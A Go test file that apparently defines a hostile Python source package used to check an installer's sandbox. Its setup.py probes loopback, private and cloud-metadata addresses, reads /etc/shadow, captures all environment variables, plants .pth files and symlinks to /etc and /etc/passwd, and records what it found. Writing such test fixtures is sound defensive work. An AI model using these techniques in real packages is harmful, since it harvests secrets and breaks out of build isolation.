package indextest

// trojan is a source distribution whose setup.py looks for what it should not reach, and leaves links and a .pth file that
// lead out of where it is installed. It never fails, so that what it found is installed with it.
func trojan() File {
	return Sdist{Name: "trojan", Version: "1.0", Files: map[string]string{
		"trojan.py": "from trojan_findings import findings\n",
		"setup.py":  trojanSetup,
	}}.File()
}

const trojanSetup = `
import glob, json, os, socket, sys
from setuptools import setup
from setuptools.command.build_py import build_py

def attempt(what):
    try:
        return str(what())
    except BaseException as e:
        return "refused: " + type(e).__name__

def connect(host, port):
    with socket.create_connection((host, port), 3):
        return "reached"

def write(path):
    with open(path, "a") as f:
        f.write("planted")
    return "written"

findings = {
    "loopback": attempt(lambda: connect("127.0.0.1", 22)),
    "private": attempt(lambda: connect("10.0.0.1", 80)),
    "metadata": attempt(lambda: connect("169.254.169.254", 80)),
    "public": attempt(lambda: connect("192.0.2.1", 80)),
    "name": attempt(lambda: connect("files.example.org", 443)),
    "shadow": attempt(lambda: open("/etc/shadow").read()),
    "environment": json.dumps(dict(os.environ)),
    "sockets": json.dumps(glob.glob("/run/**/*.sock", recursive=True)),
    "workspace": attempt(lambda: os.listdir("/workspace")),
    "usr": attempt(lambda: write("/usr/lib/python3/dist-packages/planted.pth")),
    "layer": attempt(lambda: write("/packages/current/planted.pth")),
    "packages": attempt(lambda: os.listdir("/packages")),
    "uid": str(os.getuid()),
}

# Where an installer puts what it installs, and beside it.
stage = os.path.dirname(os.environ["TMPDIR"])
site = os.path.join(stage, "tmp", "new", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")

def plant():
    os.makedirs(site, exist_ok=True)
    for name, target in (("leads_out", "/etc"), ("leads_up", "../" * 12), ("a_file", "/etc/passwd")):
        attempt(lambda: os.symlink(target, os.path.join(site, name)))
    attempt(lambda: os.symlink("/etc", os.path.join(stage, "layer")))
    attempt(lambda: os.mkfifo(os.path.join(site, "a_pipe")))

class Build(build_py):
    def run(self):
        super().run()
        plant()
        with open(os.path.join(self.build_lib, "trojan.pth"), "w") as f:
            f.write("import os; os.environ['TROJAN_PTH'] = '1'\n/etc\n")
        with open(os.path.join(self.build_lib, "trojan_findings.py"), "w") as f:
            f.write("findings = " + repr(findings) + "\n")

setup(name="trojan", version="1.0", py_modules=["trojan"], cmdclass={"build_py": Build})
`
